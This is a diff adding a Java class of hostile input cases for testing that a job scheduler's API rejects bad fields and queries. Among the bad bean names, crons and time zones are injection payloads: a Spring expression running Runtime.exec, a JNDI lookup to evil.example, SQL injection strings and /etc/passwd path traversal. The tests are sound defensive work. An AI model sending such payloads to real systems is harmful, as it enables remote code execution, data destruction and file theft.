@@ -1,0 +1,207 @@
+package com.jm.job.master.hostile;
+
+import static com.jm.job.master.hostile.Endpoints.CREATE_GROUP;
+import static com.jm.job.master.hostile.Endpoints.CREATE_TASK;
+import static com.jm.job.master.hostile.Endpoints.LIST_NODES;
+import static com.jm.job.master.hostile.Endpoints.LIST_TASKS;
+import static com.jm.job.master.hostile.Endpoints.RETRY_TASK;
+import static com.jm.job.master.hostile.Endpoints.UPDATE_TASK;
+import static com.jm.job.master.hostile.HostileParams.LONG_OVERFLOW;
+import static com.jm.job.master.hostile.HostileParams.param;
+
+import com.jm.job.master.hostile.JsonBodies.Raw;
+import java.math.BigInteger;
+import java.util.ArrayList;
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.Map;
+import java.util.Set;
+import java.util.stream.Collectors;
+import java.util.stream.Stream;
+
+/** Field-by-field attacks on the operators' API: wrong types, values out of range, garbage. */
+final class HostileApiCases {
+
+    static final List<String> BAD_CRONS = List.of(
+            "x",
+            "* * * * *",
+            "0 0 0 ? * * *",
+            "60 * * * * *",
+            "0 60 * * * *",
+            "0 0 24 * * *",
+            "0 0 0 32 * *",
+            "0 0 0 * 13 *",
+            "0 0 0 * * 8",
+            "*/0 * * * * *",
+            "-1 * * * * *",
+            "99999999999 * * * * *",
+            "0 0 0 30 2 *",
+            "@reboot",
+            "0 0 0 * * MON-",
+            "0 0 0 * * *\n0 0 1 * * *",
+            "'; DROP TABLE jm_task; --",
+            "${cron}",
+            "#{cron}",
+            "c".repeat(129));
+
+    static final List<String> BAD_BEAN_NAMES = List.of(
+            "#{T(java.lang.Runtime).getRuntime().exec('id')}",
+            "${jndi:ldap://evil.example/a}",
+            "'; DROP TABLE jm_task; --",
+            "1startsWithADigit",
+            "has space",
+            "../../etc/passwd",
+            "helloJob\n",
+            "作业",
+            "b".repeat(129));
+
+    static final List<String> BAD_ZONES =
+            List.of("Mars/Olympus", "../../../etc/passwd", "UTC+99:00", "+25:00", "${user.timezone}", "z".repeat(65));
+
+    private HostileApiCases() {}
+
+    static List<HostileCase> groups() {
+        Endpoint e = CREATE_GROUP;
+        List<HostileCase> cases = new ArrayList<>();
+        cases.add(e.missing("name", 400));
+        cases.add(e.field("null name", 400, "name", null));
+        cases.add(e.field("empty name", 400, "name", ""));
+        cases.add(e.field("blank name", 400, "name", " \t\n "));
+        cases.add(e.field("name of 129 characters", 400, "name", "n".repeat(129)));
+        cases.add(e.field("name of 129 CJK characters", 400, "name", "名".repeat(129)));
+        cases.add(e.field("name of 65 emoji (130 UTF-16 units)", 400, "name", "🚀".repeat(65)));
+        cases.add(e.field("name as array", 400, "name", List.of("a")));
+        cases.add(e.field("name as object", 400, "name", Map.of("a", 1)));
+        cases.add(e.field("id in the body", 400, "id", 5));
+        cases.add(e.body("name of the existing group", 409, t -> "{\"name\":\"" + HostileTarget.GROUP + "\"}"));
+        return cases;
+    }
+
+    static List<HostileCase> createTask() {
+        Endpoint e = CREATE_TASK;
+        List<HostileCase> cases = new ArrayList<>(definitionCases(e));
+        cases.add(e.missing("groupId", 400));
+        cases.add(e.field("null groupId", 400, "groupId", null));
+        cases.add(e.field("zero groupId", 400, "groupId", 0));
+        cases.add(e.field("negative groupId", 400, "groupId", -1));
+        cases.add(e.field("Long.MIN_VALUE groupId", 400, "groupId", Long.MIN_VALUE));
+        cases.add(e.field("unknown groupId", 400, "groupId", 987654));
+        cases.add(e.field("Long.MAX_VALUE groupId", 400, "groupId", Long.MAX_VALUE));
+        cases.add(e.field("groupId past Long.MAX_VALUE", 400, "groupId", new BigInteger(LONG_OVERFLOW)));
+        cases.add(e.field("groupId of 40 digits", 400, "groupId", new Raw("9".repeat(40))));
+        cases.add(e.field("groupId as word", 400, "groupId", "seven"));
+        cases.add(e.field("groupId as array", 400, "groupId", List.of(1)));
+        cases.add(e.field("groupId as object", 400, "groupId", Map.of("id", 1)));
+        cases.add(e.field("groupId NaN", 400, "groupId", new Raw("NaN")));
+        cases.add(e.field("groupId with leading zeros", 400, "groupId", new Raw("007")));
+        cases.add(e.field("groupId 1e400", 400, "groupId", new Raw("1e400")));
+        cases.add(e.field("status in the body", 400, "status", "RUNNING"));
+        cases.add(e.field("version in the body", 400, "version", 7));
+        return cases;
+    }
+
+    static List<HostileCase> updateTask() {
+        Endpoint e = UPDATE_TASK;
+        List<HostileCase> cases = new ArrayList<>(definitionCases(e));
+        cases.add(e.field("negative version", 400, "version", -1));
+        cases.add(e.field("version past Long.MAX_VALUE", 400, "version", new BigInteger(LONG_OVERFLOW)));
+        cases.add(e.field("version as word", 400, "version", "latest"));
+        cases.add(e.field("stale version", 409, "version", 999));
+        cases.add(e.field("groupId (cannot change)", 400, "groupId", 1));
+        cases.add(e.call("update of a running task", 409, t -> e.valid(t, e.at(String.valueOf(t.runningTaskId()), t))));
+        return cases;
+    }
+
+    /** What create and update share: the task definition's fields. */
+    private static List<HostileCase> definitionCases(Endpoint e) {
+        List<HostileCase> cases = new ArrayList<>();
+        for (String field : List.of("name", "beanName")) {
+            cases.add(e.missing(field, 400));
+            cases.add(e.field("null " + field, 400, field, null));
+            cases.add(e.field("blank " + field, 400, field, "  "));
+            cases.add(e.field(field + " as array", 400, field, List.of("x")));
+        }
+        cases.add(e.field("name of 129 characters", 400, "name", "n".repeat(129)));
+        for (String bean : BAD_BEAN_NAMES) {
+            cases.add(e.field("beanName " + quoted(bean), 400, "beanName", bean));
+        }
+        for (String cron : BAD_CRONS) {
+            cases.add(e.field("cron " + quoted(cron), 400, "cron", cron));
+        }
+        cases.add(e.field("cron as object", 400, "cron", new Raw("{}")));
+        for (String zone : BAD_ZONES) {
+            cases.add(e.body(
+                    "timeZone " + quoted(zone),
+                    400,
+                    t -> JsonBodies.write(JsonBodies.with(
+                            JsonBodies.with(e.validBody().apply(t), "cron", "0 0 2 * * *"), "timeZone", zone))));
+        }
+        cases.add(e.field("params of 65536 characters", 400, "params", "p".repeat(65_536)));
+        cases.add(e.field("params as JSON object", 400, "params", Map.of("who", "world")));
+        cases.add(e.field("params as array", 400, "params", List.of(1, 2)));
+        cases.add(e.field("retry as word", 400, "retry", "sometimes"));
+        cases.add(e.field("retry as array", 400, "retry", List.of(true)));
+        cases.add(e.field("negative maxRetries", 400, "maxRetries", -1));
+        cases.add(e.field("maxRetries over 100", 400, "maxRetries", 101));
+        cases.add(e.field("maxRetries beyond int", 400, "maxRetries", 2_147_483_648L));
+        cases.add(e.field("maxRetries as word", 400, "maxRetries", "three"));
+        cases.add(e.field("zero timeoutSeconds", 400, "timeoutSeconds", 0));
+        cases.add(e.field("negative timeoutSeconds", 400, "timeoutSeconds", -30));
+        cases.add(e.field("timeoutSeconds over a week", 400, "timeoutSeconds", 604_801));
+        cases.add(e.field("timeoutSeconds 1e10", 400, "timeoutSeconds", new Raw("1e10")));
+        return cases;
+    }
+
+    static List<HostileCase> taskQueries() {
+        Endpoint e = LIST_TASKS;
+        return List.of(
+                param(e, "unknown status", "status", "DONE", 400),
+                param(e, "lower-case status", "status", "pending", 400),
+                param(e, "status as number", "status", "1", 400),
+                param(e, "status with SQL", "status", "PENDING' OR '1'='1", 400),
+                param(e, "groupId not a number", "groupId", "abc", 400),
+                param(e, "groupId past Long.MAX_VALUE", "groupId", LONG_OVERFLOW, 400),
+                param(e, "disabled neither true nor false", "disabled", "maybe", 400));
+    }
+
+    static List<HostileCase> nodeQueries() {
+        Endpoint e = LIST_NODES;
+        return List.of(
+                param(e, "groupId not a number", "groupId", "abc", 400),
+                param(e, "groupId past Long.MAX_VALUE", "groupId", LONG_OVERFLOW, 400),
+                param(e, "groupId with SQL", "groupId", "1 OR 1=1", 400));
+    }
+
+    static List<HostileCase> retry() {
+        Endpoint e = RETRY_TASK;
+        return List.of(e.call("retry of a running task", 409, t -> e.at(String.valueOf(t.runningTaskId()), t)));
+    }
+
+    /** Methods a path does not serve (405), counted under the path's first endpoint. */
+    static List<HostileCase> methods() {
+        Map<String, List<Endpoint>> byPath = new LinkedHashMap<>();
+        for (Endpoint e : Endpoints.ALL) {
+            byPath.computeIfAbsent(e.path(), p -> new ArrayList<>()).add(e);
+        }
+        List<HostileCase> cases = new ArrayList<>();
+        byPath.values().forEach(served -> {
+            Endpoint e = served.get(0);
+            Set<String> allowed = served.stream().map(s -> s.method().name()).collect(Collectors.toSet());
+            Stream.of("GET", "POST", "PUT", "DELETE", "PATCH")
+                    .filter(method -> !allowed.contains(method))
+                    .forEach(method -> cases.add(e.call(
+                            method + " on the path",
+                            405,
+                            t -> e.valid(t, e.authorized(t).with(request -> {
+                                request.setMethod(method);
+                                return request;
+                            })))));
+        });
+        return cases;
+    }
+
+    static String quoted(String value) {
+        String shown = value.length() > 24 ? value.substring(0, 12) + "…(" + value.length() + " chars)" : value;
+        return "'" + shown.replace("\n", "\\n").replace("\t", "\\t") + "'";
+    }
+}
